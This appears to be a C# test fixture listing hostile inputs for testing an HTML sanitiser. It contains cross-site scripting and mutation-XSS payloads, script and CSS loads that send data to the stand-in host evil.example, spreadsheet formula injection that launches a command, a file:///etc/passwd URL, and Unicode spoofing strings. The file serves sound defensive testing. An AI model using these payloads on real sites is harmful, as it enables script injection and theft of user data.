using System.Text.Json;
using Griot.Testing;

namespace Griot.Tests.Hostile;

/// <summary>
/// Texts and addresses of people who mean harm, by the row of the list of cases that they belong to. What they would do
/// is always told to <c>evil.example</c>, or shown by a dialog.
/// </summary>
internal static class HostileWords
{
    internal static readonly (string Row, string Text)[] Own =
    [
        ("H01", "<script>alert(1)</script><script src=https://evil.example/x.js></script>"),
        ("H01", "\"><script>alert(document.domain)</script>"),
        ("H01", "'><img src=x onerror=alert(1)><svg onload=alert(2)><body onload=alert(3)><details open ontoggle=alert(4)>"),
        ("H01", "</title></textarea></style></noscript></script><script>alert(1)</script>"),
        ("H01", "--><!--><img src=https://evil.example/c.gif onerror=alert(1)><!--"),
        ("H01", "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(2)><video src=https://evil.example/v onerror=alert(3)><p onpointerenter=alert(4)>x"),
        ("H01", "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}"),
        ("H01", "<ScRiPt\n>alert(1)</sCrIpT\t><scr<script>ipt>alert(2)</scr</script>ipt>"),
        ("H01", "<xss style=animation-name:x onanimationstart=alert(1)>x<a href=#x onclick=alert(2) accesskey=x>y"),
        ("H02", "<a href=\"JaVaScRiPt:alert(1)\">a</a><a href=\"java\tscript:alert(1)\">b</a><a href=\"&#106;avascript&colon;alert(1)\">c</a><a href=\"data:text/html,<script>alert(1)</script>\">d</a><a href=vbscript:x>e</a><a href=//evil.example/>f</a><a href=\"\\\\evil.example\\\">g</a><a href=\"/\\evil.example\">h</a>"),
        ("H03", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">"),
        ("H03", "<svg><style><img src=https://evil.example/s.gif onerror=alert(1)></style></svg><noscript><p title=\"</noscript><img src=x onerror=alert(2)>\">"),
        ("H03", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"><template><script>alert(2)</script></template><select><option><script>alert(3)</script></select>"),
        ("H03", "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(2)>"),
        ("H03", "<svg></p><style><g title=\"</style><img src=https://evil.example/g.gif onerror=alert(1)>\">"),
        ("H04", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe><iframe src=https://evil.example/f></iframe><object data=https://evil.example/o></object><embed src=https://evil.example/e>"),
        ("H04", "<form id=f action=https://evil.example/form><button formaction=javascript:alert(1)>b</button><input type=image src=https://evil.example/i.gif></form><button form=f>c</button>"),
        ("H04", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base href=https://evil.example/><link rel=stylesheet href=https://evil.example/s.css><link rel=preload as=image href=https://evil.example/p.gif><link rel=dns-prefetch href=//evil.example>"),
        ("H04", "<video poster=https://evil.example/p.png autoplay><source src=https://evil.example/v.mp4></video><img srcset=\"https://evil.example/1.png 1x\"><picture><source srcset=https://evil.example/2.png><img src=https://evil.example/3.png></picture><a ping=https://evil.example/ping href=https://a.example/>x</a><table background=https://evil.example/b.png><tr><td>x</table><body background=https://evil.example/b2.png>"),
        ("H05", "<p style=\"position:fixed;inset:0;background:url(https://evil.example/bg.png)\">x</p><style>@import url(https://evil.example/i.css);input[value^=a]{background:url(https://evil.example/a)}</style><font style=\"font-family:x;src:url(https://evil.example/x.woff)\">y</font>"),
        ("H06", "<svg xmlns=http://www.w3.org/2000/svg><script>alert(1)</script><foreignObject><iframe src=https://evil.example/></iframe></foreignObject><use href=https://evil.example/s.svg#x /><image href=https://evil.example/i.png /><a xlink:href=javascript:alert(2)><text>x</text></a></svg>"),
        ("H06", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"><img src=https://evil.example/p.svg>"),
        ("H07", "x<img src=https://evil.example/pixel.gif width=1 height=1><img src=https://evil.example/large.jpg width=640 alt=\"A bridge\"><audio src=https://evil.example/a.mp3 autoplay></audio><link rel=\"icon\" href=https://evil.example/icon.png>"),
        ("H08", "<a id=cookie name=cookie>x</a><form id=document name=body><input name=attributes><input name=childNodes></form><img name=getElementById id=text><a id=versions href=https://a.example/>y</a>"),
        ("H09", "&amp;lt;script&amp;gt;alert(1) &lt;img src=x onerror=alert(2)&gt; <![CDATA[<script>alert(3)</script>]]>"),
        ("H10", "<a href=https://evil.example/opener target=_blank rel=opener>x</a><area href=https://evil.example/ target=_top><map name=m>"),
        ("H11", "]]> & &amp; &bogus; \u2028\u2029 </script> \uFFFD \"}],\"version\":\"https://jsonfeed.org/version/1\" <![CDATA[ ]]]]><![CDATA[>"),
        ("H12", "=HYPERLINK(\"https://evil.example/\",\"x\")"),
        ("H12", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("H13", "<a href=https://r-fi.example/>rfi.fr</a><a href=https://\u0440\u0430\u0443pal.example/>paypal.example</a>"),
        ("H14", "\u202E\u2066\u202Dnothing \u200F\u061C\u05D0\u05D1\u05D2 (\u0635\u062D\u064A\u0641\u0629) \u200Bgpj.exe\u202C"),
    ];

    /// <summary>Row H02, for every field that holds an address.</summary>
    internal static readonly string[] Addresses =
    [
        "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript:alert(1)//https://a.example/", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)",
        "//evil.example/a.gif", "\\\\evil.example\\a.gif", "/\\evil.example/a.gif", "https:\\\\evil.example/a.gif", "https://evil.example/\"><script>alert(1)</script>", "https://user:secret@evil.example/a.svg",
        "blob:https://evil.example/1", "feed:javascript:alert(1)", "https://evil.example/a.svg", "file:///etc/passwd", "https://evil.example/' onerror='alert(1)",
    ];

    /// <summary>What others have collected; nothing where it is not present.</summary>
    internal static List<string> Collected()
    {
        List<string> payloads = [];
        foreach (var (file, field) in ((string, string)[])[("data/sanitise/dompurify.json", "payload"), ("data/sanitise/html5lib.json", "input")])
        {
            if (SharedMaterial.Find(file) is not { } path) continue;
            using var cases = JsonDocument.Parse(File.ReadAllBytes(path));
            payloads.AddRange(cases.RootElement.EnumerateArray().Select(one => one.GetProperty(field).GetString()!));
        }

        return payloads;
    }
}
